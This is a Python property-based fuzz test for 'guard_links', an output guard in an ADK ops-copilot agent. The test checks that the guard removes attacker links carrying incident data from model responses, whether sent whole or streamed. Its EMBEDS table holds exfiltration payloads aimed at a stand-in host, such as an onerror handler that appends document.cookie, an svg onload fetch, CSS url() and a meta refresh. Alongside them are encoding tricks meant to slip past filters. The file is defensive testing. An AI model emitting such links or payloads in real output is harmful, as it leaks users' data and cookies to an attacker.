"""Fuzz target: the output guard against an attacker link written every way we know.

An attacker URL carrying incident data -- any scheme form, its host a name or an IPv6 literal --
is encoded (HTML entities, letter case, backslashes, a full-width or percent-encoded dot),
embedded (bare, markdown link or image, autolink, reference, an HTML attribute of any kind: href,
src, srcset, data-src, an event handler's script, CSS `url()` and `image-set()`, a meta refresh,
an open redirect on a trusted host, a stylesheet; markdown backslash escapes, CSS escapes, a tab
inside an attribute's URL) and split across one to three text parts of one model response, or
across up to five partial chunks of a streamed one. The guard (`guard_links`, as ADK calls it)
must leave no trace of the attacker's host in what the reader sees: the parts joined, or the
text of the chunks it let through joined, as a streaming client renders it. The check is not
the guard's grammar: the output is decoded (entities, percent-encoding, NFKC) and searched for
the host as plain text.
"""

from __future__ import annotations

import html
import re
import unicodedata
from types import SimpleNamespace
from urllib.parse import quote, unquote

from google.adk.events import Event
from google.adk.models.llm_response import LlmResponse
from google.genai import types
from hypothesis import event, given
from hypothesis import strategies as st

from ops_copilot.guards.output_guard import guard_links

USER = "How is INC-002? Our status page is https://status.acme.com/ if that helps."
HOSTS = {"attacker.example": "attacker.example", "[2001:db8::1]:8443": "2001:db8::1"}
SCHEMES = ["https://", "http://", "HTTPS://", "//", "http:", "https:\\\\", "wss://"]
EMBEDS = {
    "bare": "{u}",
    "markdown": "[the report]({u})",
    "image": "![status]({u})",
    "autolink": "<{u}>",
    "reference": "See [1].\n\n[1]: {u}",
    "a-href": '<a href="{u}">details</a>',
    "img-src": "<img src='{u}'>",
    "srcset": '<img srcset="x.png 1x, {u} 2x">',
    "data-src": '<img class="lazy" data-src="{u}">',
    "onerror": "<img src=x onerror=\"this.src='{u}'+document.cookie\">",
    "onload": "<svg onload=\"fetch('{u}')\"></svg>",
    "css-url": '<div style="background: url({u})">x</div>',
    "image-set": "<div style=\"background-image: image-set('{u}' 1x)\">x</div>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url={u}">',
    "redirect": "https://status.acme.com/r?to={u}",
    "redirect-encoded": "https://status.acme.com/r?to={q}",
    "markdown-escaped": "[status]({m})",
    "reference-escaped": "See [1].\n\n[1]: {m}",
    "attribute-with-gt-and-tab": '<img alt=">" src="{t}">',
    "unquoted-attribute-tab": "<img src={t}>",
    "slash-separated-attribute": '<img/src="{t}">',
    "css-escaped": "<div style=\"background:url('{c}')\">x</div>",
    "style-block": "<style>body{{background:url('{u}')}}</style>",
    "style-import-escaped": "<style>@import '{c}';</style>",
}
# What each placeholder of EMBEDS holds: the URL as written ({u}), percent-encoded ({q}), with
# markdown backslash escapes before its dots and colon ({m}), a tab between its slashes ({t},
# which a browser drops) and CSS escapes ({c}).
_MD = str.maketrans({".": "\\.", ":": "\\:"})
_CSS = str.maketrans({c: f"\\{ord(c):x} " for c in "h:/.?=\\"})


def _entity(ch: str, hexa: bool) -> str:
    return f"&#x{ord(ch):x};" if hexa else f"&#{ord(ch)};"


@st.composite
def attacker_url(draw) -> tuple[str, str]:
    """(the URL as written, the host to look for)."""
    host = draw(st.sampled_from(sorted(HOSTS)))
    if host.startswith("attacker"):
        dot = draw(st.sampled_from([".", ".", "\uff0e", "%2e", "\u3002"]))
        host = host.replace(".", dot)
        if draw(st.booleans()):
            host = "".join(c.upper() if draw(st.booleans()) else c for c in host)
    scheme = draw(st.sampled_from(SCHEMES))
    if scheme == "http:" and host.startswith("["):
        scheme = "http://"
    url = f"{scheme}{host}/c?d=INC-002-db-pool"
    encoded = "".join(
        _entity(c, draw(st.booleans())) if c.isalnum() and draw(st.integers(0, 9)) == 0 else c
        for c in url
    )
    return encoded, HOSTS["[2001:db8::1]:8443" if "[" in host else "attacker.example"]


def _visible(text: str) -> list[str]:
    """What a reader's client could turn the text into: entities and percent-encoding decoded,
    compatibility forms folded, ideographic and full-width dots as dots, tabs dropped, lower
    case -- read as it is, with markdown backslash escapes undone, and with CSS escapes undone."""
    for _ in range(3):
        text = html.unescape(text)
    text = unquote(unquote(text)).replace("\t", "")
    text = unicodedata.normalize("NFKC", text).replace("\u3002", ".").replace("\uff0e", ".")
    markdown = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", text)
    css = re.sub(r"\\([0-9a-f]{1,6}) ?", lambda m: chr(int(m[1], 16)), text, flags=re.I)
    return [form.lower() for form in (text, markdown, css)]


def _split(text: str, cuts: list[int]) -> list[str]:
    points = sorted({min(c, len(text)) for c in cuts})
    pieces, start = [], 0
    for p in points:
        pieces.append(text[start:p])
        start = p
    pieces.append(text[start:])
    return [p for p in pieces if p]


def _context() -> SimpleNamespace:
    """A callback context as ADK makes one for the guard: the session, its state, and the
    invocation's custom metadata (where a streamed message is held)."""
    return SimpleNamespace(
        agent_name="ops_copilot",
        branch=None,
        custom_metadata={},
        session=SimpleNamespace(
            id="fuzz-output-guard",
            events=[
                Event(
                    author="user",
                    invocation_id="e-1",
                    content=types.Content(role="user", parts=[types.Part(text=USER)]),
                )
            ],
        ),
        state={},
    )


def _guarded(parts: list[str]) -> str:
    response = LlmResponse(
        content=types.Content(role="model", parts=[types.Part(text=p) for p in parts])
    )
    changed = guard_links(_context(), response) or response
    return "".join(p.text or "" for p in changed.content.parts)


def _streamed(chunks: list[str]) -> str:
    """The text of each partial chunk as the guard lets it through, joined."""
    context, shown = _context(), []
    for chunk in chunks:
        response = LlmResponse(
            content=types.Content(role="model", parts=[types.Part(text=chunk)]), partial=True
        )
        changed = guard_links(context, response) or response
        shown += [p.text or "" for p in (changed.content.parts if changed.content else [])]
    return "".join(shown)


def _attack(url: tuple[str, str], embed: str, before: str) -> tuple[str, str]:
    """(the answer with the attacker's link embedded, the host to look for)."""
    written, host = url
    plain = html.unescape(written)
    link = EMBEDS[embed].format(
        u=written,
        q=quote(plain, safe=""),
        m=written.translate(_MD),
        t=written.replace("//", "/&#9;/", 1),
        c=plain.translate(_CSS),
    )
    answer = f"{before}{link} Ask me for more."
    assert any(host in form for form in _visible(answer))  # the attack is there before the guard
    return answer, host


@given(
    url=attacker_url(),
    embed=st.sampled_from(sorted(EMBEDS)),
    before=st.sampled_from(["", "Pool exhausted. ", "INC-002 is open.\n"]),
    cuts=st.lists(st.integers(0, 200), max_size=2),
)
def test_the_guard_leaves_no_attacker_host_in_the_joined_answer(url, embed, before, cuts):
    answer, host = _attack(url, embed, before)
    parts = _split(answer, cuts)
    event(f"{embed}, {len(parts)} part(s)")
    shown = _guarded(parts)
    assert not any(host in form for form in _visible(shown)), (parts, shown)


@given(
    url=attacker_url(),
    embed=st.sampled_from(sorted(EMBEDS)),
    before=st.sampled_from(["", "Pool exhausted. ", "INC-002 is open.\n"]),
    cuts=st.lists(st.integers(0, 200), max_size=4),
)
def test_the_guard_leaves_no_attacker_host_in_what_a_streaming_client_renders(
    url, embed, before, cuts
):
    answer, host = _attack(url, embed, before)
    chunks = _split(answer, cuts)
    event(f"{embed}, {len(chunks)} chunk(s)")
    shown = _streamed(chunks)
    assert not any(host in form for form in _visible(shown)), (chunks, shown)
